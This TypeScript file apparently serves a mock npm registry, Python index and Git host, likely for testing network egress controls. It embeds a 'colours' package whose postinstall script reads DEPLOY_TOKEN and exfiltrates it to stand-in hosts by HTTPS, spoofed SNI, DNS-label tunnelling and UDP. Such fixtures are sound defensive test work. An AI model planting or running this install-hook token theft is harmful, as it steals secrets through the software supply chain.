/**
 * What the far end's web servers hold: an npm registry, a Python index and a Git repository, small but
 * real: npm, pip and git take them as they are.
 */
import { createHash } from "node:crypto"
import { existsSync, readFileSync, statSync } from "node:fs"
import type { IncomingMessage, ServerResponse } from "node:http"
import { join, normalize } from "node:path"
import { gzipSync } from "node:zlib"

interface Package {
  readonly version: string
  readonly manifest: Readonly<Record<string, unknown>>
  readonly files: Readonly<Record<string, string>>
}

/** The poisoned one: what it does after it was installed is steal a token in four ways. */
const thief = `
const { execFileSync } = require("node:child_process")
const dgram = require("node:dgram")
const dns = require("node:dns")
const https = require("node:https")
const token = process.env.DEPLOY_TOKEN ?? "none"
const tell = (how) => (error) => console.log("colours: " + how + (error ? ": " + (error.code ?? error.message) : ": sent"))
const post = (host, servername, how) => new Promise((done) => {
  const request = https.request({ host, servername, port: 443, method: "POST", path: "/" + how, rejectUnauthorized: false, timeout: 4000, headers: { host: servername } }, (reply) => { reply.resume(); tell(how)(); done() })
  request.on("timeout", () => request.destroy(new Error("timeout")))
  request.on("error", (error) => { tell(how)(error); done() })
  request.end(how + " " + token)
})
const label = Buffer.from(token).toString("hex").slice(0, 60)
const ask = () => new Promise((done) => dns.lookup(label + ".evil.test", (error) => { tell("by DNS labels")(error); done() }))
const shoot = () => new Promise((done) => {
  const socket = dgram.createSocket("udp4")
  socket.send("by UDP " + token, 9999, "198.51.100.66", (error) => { tell("by UDP")(error); socket.close(); done() })
})
;(async () => {
  await post("evil.test", "evil.test", "by-name")
  await post("198.51.100.66", "allowed.test", "by-address")
  await ask()
  await shoot()
})()
`

const packages: Readonly<Record<string, Package>> = {
  "left-padder": {
    version: "1.0.0",
    manifest: { main: "index.js" },
    files: { "index.js": "module.exports = (text, width) => String(text).padStart(width)\n" },
  },
  colours: {
    version: "1.4.2",
    manifest: { main: "index.js", scripts: { postinstall: "node steal.js" } },
    files: { "index.js": "module.exports = (text) => text\n", "steal.js": thief },
  },
}

/** One file in a tar archive (POSIX ustar). */
function tarEntry(path: string, text: string): Buffer {
  const bytes = Buffer.from(text)
  const head = Buffer.alloc(512)
  head.write(path, 0)
  head.write("0000644\0", 100)
  head.write("0000000\0", 108)
  head.write("0000000\0", 116)
  head.write(`${bytes.length.toString(8).padStart(11, "0")}\0`, 124)
  head.write("00000000000\0", 136)
  head.write("        ", 148)
  head.write("0", 156)
  head.write("ustar\0", 257)
  head.write("00", 263)
  const sum = head.reduce((total, byte) => total + byte, 0)
  head.write(`${sum.toString(8).padStart(6, "0")}\0 `, 148)
  const padding = Buffer.alloc((512 - (bytes.length % 512)) % 512)
  return Buffer.concat([head, bytes, padding])
}

function tarball(name: string, { version, manifest, files }: Package): Buffer {
  const text = JSON.stringify({ name, version, ...manifest })
  const entries = Object.entries({ "package.json": text, ...files })
  const archive = entries.map(([path, content]) => tarEntry(`package/${path}`, content))
  return gzipSync(Buffer.concat([...archive, Buffer.alloc(1024)]))
}

function packument(name: string, found: Package): object {
  const bytes = tarball(name, found)
  const integrity = `sha512-${createHash("sha512").update(bytes).digest("base64")}`
  const shasum = createHash("sha1").update(bytes).digest("hex")
  const url = `https://registry.example.com/${name}/-/${name}-${found.version}.tgz`
  const dist = { tarball: url, integrity, shasum }
  const hasInstallScript = "scripts" in found.manifest
  const manifest = { name, version: found.version, ...found.manifest, dist, hasInstallScript }
  return { name, "dist-tags": { latest: found.version }, versions: { [found.version]: manifest } }
}

function serveNpm(url: string, response: ServerResponse): boolean {
  const name = url.split("/")[1] ?? ""
  const found = packages[name]
  if (found === undefined) return false
  if (url.endsWith(".tgz")) {
    response.setHeader("content-type", "application/octet-stream")
    response.end(tarball(name, found))
  } else {
    response.setHeader("content-type", "application/json")
    response.end(JSON.stringify(packument(name, found)))
  }
  return true
}

const wheelName = "tidy_words-1.0.0-py3-none-any.whl"

function serveFile(root: string, url: string, response: ServerResponse): boolean {
  const path = join(root, normalize(decodeURIComponent(url.split("?")[0] ?? "")))
  if (!path.startsWith(root) || !existsSync(path) || !statSync(path).isFile()) {
    response.statusCode = 404
    response.end("no such file\n")
    return true
  }
  response.end(readFileSync(path))
  return true
}

/**
 * Answers what one of the far end's repositories answers.
 *
 * @param repositories the directory behind git.example.com; null: none
 * @returns false when the request is for none of them
 */
export function registry(
  request: IncomingMessage,
  response: ServerResponse,
  repositories: string | null,
): boolean {
  const host = (request.headers.host ?? "").replace(/:\d+$/, "")
  const url = request.url ?? "/"
  if (host === "registry.example.com" && request.method === "GET") {
    if (serveNpm(url, response)) return true
    response.statusCode = 404
    response.end("{}")
    return true
  }
  if (host === "git.example.com" && repositories !== null) {
    return serveFile(repositories, url, response)
  }
  if (host === "pypi.example.com" && url.startsWith("/simple/")) {
    response.setHeader("content-type", "text/html")
    response.end(`<!doctype html><a href="/files/${wheelName}">${wheelName}</a>`)
    return true
  }
  return false
}
